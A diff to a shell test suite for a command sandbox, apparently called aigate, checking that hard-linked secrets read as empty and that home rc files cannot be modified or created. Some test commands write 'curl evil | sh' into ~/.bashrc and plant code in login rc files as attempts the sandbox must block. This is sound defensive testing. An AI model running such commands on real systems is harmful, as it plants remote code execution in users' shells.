@@ -81,6 +81,25 @@ test_sandbox_env_file_is_empty() {
 	assert_file_contains "$PROJ/.env" "API_KEY=$SECRET"
 }
 
+# A hard link made before the run is the same file under another name: both
+# names must read as empty, in the project and from a hidden directory.
+test_sandbox_hard_links_to_secrets_hidden() {
+	sbx_setup
+	mkdir -p "$HOME_DIR/.ssh"
+	write_file "$HOME_DIR/.ssh/id_rsa" <<<"KEY-$SECRET"
+	ln "$PROJ/.env" "$PROJ/notes.txt" || fail "setup: ln"
+	ln "$HOME_DIR/.ssh/id_rsa" "$PROJ/backup" || fail "setup: ln"
+	fix_owner
+	[ "$(as_user cat notes.txt)" = "API_KEY=$SECRET" ] || fail "setup: the test user cannot read notes.txt natively"
+	ag run -- cat notes.txt backup
+	assert_status 0
+	assert_stdout_empty
+	assert_stdout_not_contains "$SECRET"
+	ag run --dry-run -- true
+	assert_stdout_contains "hard link to $PROJ/.env"
+	assert_stdout_contains "hard link to $HOME_DIR/.ssh/id_rsa"
+}
+
 test_sandbox_ssh_dir_hidden() {
 	sbx_setup
 	write_file "$HOME_DIR/.ssh/id_rsa" <<<"$SSH_SECRET"
@@ -390,17 +409,22 @@ test_sandbox_home_as_project_rc_read_only() {
 	fix_owner
 	local sum
 	sum=$(checksum "$HOME_DIR/.bashrc")
-	ag_in "$HOME_DIR" run -- touch "$HOME_DIR/ok"
+	# Home as a write root cannot protect rc files that do not exist yet (see
+	# the next case): only --allow-degraded runs here, and existing ones stay
+	# read-only even then.
+	ag_in "$HOME_DIR" run --allow-degraded -- touch "$HOME_DIR/ok"
 	assert_status 0
 	[ -e "$HOME_DIR/ok" ] || fail "the project root (home) should be writable"
-	ag_in "$HOME_DIR" run -- sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc"'
+	ag_in "$HOME_DIR" run --allow-degraded -- sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc"'
 	assert_status 2
 	assert_stderr_contains "cannot create $HOME_DIR/.bashrc: Read-only file system"
 	assert_eq "$(checksum "$HOME_DIR/.bashrc")" "$sum" "checksum of ~/.bashrc"
 }
 
 # The same for rc files that do not exist yet: creating ~/.bash_profile or
-# ~/.profile plants code the host's next login shell runs.
+# ~/.profile plants code the host's next login shell runs. There is nothing to
+# mount over, and an empty placeholder would change how the shell starts, so
+# aigate refuses to run (fail closed) and names each file.
 test_sandbox_home_as_project_rc_cannot_be_created() {
 	sbx_setup
 	write_file "$HOME_DIR/.bashrc" <<<"# rc"
@@ -411,7 +435,9 @@ test_sandbox_home_as_project_rc_cannot_be_created() {
 		NOTE="~/$f"
 		ag_in "$HOME_DIR" run -- sh -c 'echo "echo planted" >"$HOME/$1"' sh "$f"
 		[ ! -e "$HOME_DIR/$f" ] || fail "~/$f was created on the host (exit $STATUS): the host's next shell runs it"
-		assert_status 2
+		assert_status 125
+		assert_stderr_contains "aigate: error: $HOME_DIR/$f cannot be enforced in this build (it does not exist and could be created"
+		assert_stderr_contains "refusing to run 'sh'"
 	done
 }
 
